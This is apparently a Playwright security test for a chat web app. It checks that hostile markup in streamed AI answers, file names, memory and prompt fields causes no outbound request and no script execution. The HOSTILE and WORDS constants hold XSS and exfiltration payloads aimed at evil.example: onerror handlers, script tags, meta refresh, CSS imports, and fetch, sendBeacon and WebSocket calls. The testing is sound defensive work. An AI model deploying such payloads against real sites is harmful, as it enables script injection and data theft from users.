import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import type { VendorScript } from '../support/vendor-script.ts';
import { withoutBrowser } from './chromium.ts';
import { eventually } from './eventually.ts';
import { openGateway } from './gateway.ts';
import { openScreen, screens, sections } from './screens.ts';
import { answerWith } from './scripted-events.ts';
import { setStage } from './stage.ts';
import { ask, goTo, lastAnswer, PHONE, PIXEL, ready } from './visit.ts';

const EVIL = 'https://evil.example';

/** For wherever words stand: markup that would load, run or lead somewhere if anybody took it for markup. */
const WORDS = `"><img src="${EVIL}/words.png" onerror="window.hacked=1"><script src="${EVIL}/words.js"></script>`;

const HOSTILE = `# ${WORDS}

![picture](${EVIL}/a.png) ![protocol](//evil.example/b.png) [![linked](${EVIL}/c.png)](${EVIL}/d) <${EVIL}/e>
<img src="${EVIL}/f.png" srcset="${EVIL}/g.png 2x"> <audio src="${EVIL}/h.mp3" autoplay></audio>
<video src="${EVIL}/i.mp4" poster="${EVIL}/j.png" autoplay></video>

<link rel="preconnect" href="${EVIL}"> <link rel="stylesheet" href="${EVIL}/k.css"> <base href="${EVIL}/">
<meta http-equiv="refresh" content="0;url=${EVIL}/l"> <style>@import "${EVIL}/m.css"; body { background: url(${EVIL}/n.png) }</style>
<iframe src="${EVIL}/o"></iframe> <object data="${EVIL}/p"></object> <embed src="${EVIL}/q"> <svg><image href="${EVIL}/r.png"/></svg>
<form action="${EVIL}/s"><input autofocus onfocus="window.hacked=1"><button>t</button></form>

$\\includegraphics{${EVIL}/u.png}$ $\\href{${EVIL}/v}{x}$ $\\url{javascript:window.hacked=1}$ $$\\htmlStyle{background:url(${EVIL}/w.png)}{x}$$

\`\`\`mermaid
flowchart TD
  A["<img src='${EVIL}/x.png'>"] --> B[b]
  click A "${EVIL}/y"
  style A fill:url(${EVIL}/z.png)
\`\`\`

\`\`\`html
<img src="${EVIL}/preview.png"><script>for (const harm of [
  () => fetch('${EVIL}/fetch').catch(() => {}), () => { new Image().src = '${EVIL}/image'; }, () => { top.hacked = 1; },
  () => navigator.sendBeacon('${EVIL}/beacon'), () => new WebSocket('wss://evil.example/socket'), () => open('${EVIL}/open'),
  () => import('${EVIL}/import').catch(() => {}), () => fetch('/backend-api/v2/version').catch(() => {}),
  () => { top.location = '${EVIL}/top'; }, () => addEventListener('leave', () => { location = '${EVIL}/location'; }),
]) try { harm(); } catch {}
document.body.append('it ran');</script>
\`\`\`

The last words.`;

const script: VendorScript = () => ({
  reasoning: [HOSTILE],
  text: HOSTILE.match(/[\s\S]{1,40}/g) ?? [],
  delayMs: 1,
});

/** Chromium itself asks there how to fill in forms, whatever they are in. */
const OF_THE_BROWSER = /^content-autofill\.googleapis\.com:443$/;

/** A proxy that lets nothing through, and remembers what was asked of it: by the page, its frames and workers alike. */
async function openRecorder(): Promise<{ server: string; asked: string[]; close: () => void }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(403).end();
  });
  server.on('connect', (request, socket) => {
    asked.push(request.url ?? '');
    socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return { server: `http://127.0.0.1:${address.port}`, asked, close: () => server.close() };
}

describe('no request leaves', { skip: withoutBrowser }, () => {
  let recorder: Awaited<ReturnType<typeof openRecorder>>;
  const { visit, gateway, browser } = setStage(async () => {
    recorder = await openRecorder();
    return openGateway(script, [`evil${WORDS}`, 'plain-model'], JSON.stringify(`Evil ${WORDS}`));
  });
  after(() => recorder?.close());

  /** Opens what is folded and looks at what opens windows, as a curious person would. */
  const look = async (page: Page): Promise<void> => {
    await lastAnswer(page).locator('.body').getByText('The last words.', { exact: true }).waitFor();
    for (const summary of await lastAnswer(page).locator('summary').all()) await summary.click();
    for (const link of (await lastAnswer(page).locator('.body a').all()).slice(0, 6)) await link.hover();
    const preview = lastAnswer(page).locator('.body').getByRole('button', { name: 'Preview' });
    await preview.scrollIntoViewIfNeeded();
    await preview.click();
    const frame = lastAnswer(page).frameLocator('iframe');
    await frame.getByText('it ran').waitFor();
    // Only now: what is in it is gone with that, whether or not it gets anywhere.
    await frame.locator('body').evaluate("dispatchEvent(new Event('leave'))");
    await page.waitForTimeout(700);
    assert.equal(await page.evaluate('window.hacked'), undefined);
  };

  test('whoever leaves is seen, or the rest would prove nothing', async () => {
    const context = await browser().newContext({ proxy: { server: recorder.server } });
    const page = await context.newPage();
    await page.setContent('<img src="http://evil.example/seen.png"><img src="https://evil.example/seen.png">');
    await eventually(async () => assert.equal(recorder.asked.length, 2));
    await context.close();
    recorder.asked.length = 0;
  });

  for (const viewport of [{ width: 1280, height: 800 }, PHONE]) {
    test(`on a journey through all screens, full of hostile words, ${viewport.width} pixels`, async () => {
      await visit(
        async (page) => {
          await ready(page);
          await page.locator('#model').click();
          await page.locator('#picker-list [role=option]').nth(1).click();
          await page.locator('#files').setInputFiles([
            { name: `${WORDS}.html`, mimeType: 'text/html', buffer: Buffer.from(`<p>${HOSTILE}</p>`) },
            { name: 'pixel.png', mimeType: 'image/png', buffer: PIXEL },
          ]);
          await page.locator('#attached .is-ready').nth(1).waitFor();
          await ask(page, HOSTILE);
          await look(page);

          await answerWith(page, [
            { type: 'provider', provider: { name: 'scripted', label: WORDS, url: EVIL, model: WORDS } },
            { type: 'title', title: WORDS },
            { type: 'reasoning', token: HOSTILE },
            { type: 'content', content: HOSTILE },
            { type: 'content', content: '![]()', urls: [`${EVIL}/1.png`, '//evil.example/2.png'], alt: WORDS },
            { type: 'content', content: '<audio></audio>', urls: `${EVIL}/3.mp3`, data: `${EVIL}/3.mp3` },
            { type: 'content', content: '<video></video>', urls: [`${EVIL}/4.mp4`] },
            {
              type: 'tool_calls',
              tool_calls: [{ index: 0, id: WORDS, function: { name: WORDS, arguments: HOSTILE } }],
            },
            { type: 'sources', sources: [{ url: `${EVIL}/5`, title: WORDS, text: HOSTILE, favicon: `${EVIL}/6.ico` }] },
            { type: 'preview', preview: HOSTILE },
            { type: 'suggestions', suggestions: [WORDS, HOSTILE] },
            { type: 'error', error: WORDS, message: HOSTILE },
            { type: 'finish', finish: { reason: 'stop' } },
          ]);
          await ask(page, WORDS);
          await look(page);
          await page.unroute('**/backend-api/v2/conversation');

          // The same words wherever people can leave some.
          await goTo(page, '#/memory');
          await page.locator('#memory-new').fill(HOSTILE.slice(0, 400));
          await page.locator('.memory-add button').click();
          await page.locator('.memory-text').first().waitFor();
          for (const [screen, button] of [
            ['prompts', '#new-prompt'],
            ['presets', '#new-preset'],
          ] as const) {
            await goTo(page, `#/${screen}`);
            await page.locator(button).click();
            for (const field of await page.locator('dialog input[type=text], dialog input:not([type])').all()) {
              if (await field.isEditable()) await field.fill(screen === 'prompts' ? 'evil' : WORDS);
            }
            for (const area of await page.locator('dialog textarea').all()) await area.fill(HOSTILE);
            await page.locator('dialog button[type=submit]').click();
            await page.locator('dialog[open]').waitFor({ state: 'detached' });
          }

          const answer = await fetch(`${gateway.origin}/backend-api/v2/requests`);
          const requests = (await answer.json()) as { requests?: { id: string }[] };
          const logged = requests.requests?.at(0)?.id;
          assert.ok(logged !== undefined, 'the log knows a request');
          const addresses = [
            ...screens,
            ...sections.map((name) => `settings/${name}`),
            'media/attached',
            'dashboard/requests',
            `dashboard/requests/${logged}`,
          ];
          assert.ok(addresses.length > 15, addresses.join(' '));
          for (const address of addresses) {
            await openScreen(page, address);
            for (const summary of await page.locator('main summary:visible').all()) await summary.click();
            assert.equal(await page.evaluate('window.hacked'), undefined, address);
            // Its parts scroll, the page itself never does.
            const { scrollHeight, clientHeight } = await page
              .locator('html')
              .evaluate(({ scrollHeight, clientHeight }) => ({ scrollHeight, clientHeight }));
            assert.equal(scrollHeight, clientHeight, address);
          }
          await page.waitForTimeout(500);
        },
        // What the preview tries is refused, and told.
        {
          viewport,
          proxy: { server: recorder.server, bypass: new URL(gateway.origin).host },
          mayComplain: /evil\.example|Content Security Policy|sandbox|popup/i,
        },
      );
      assert.deepEqual(
        recorder.asked.splice(0).filter((url) => !OF_THE_BROWSER.test(url)),
        [],
      );
    });
  }
});
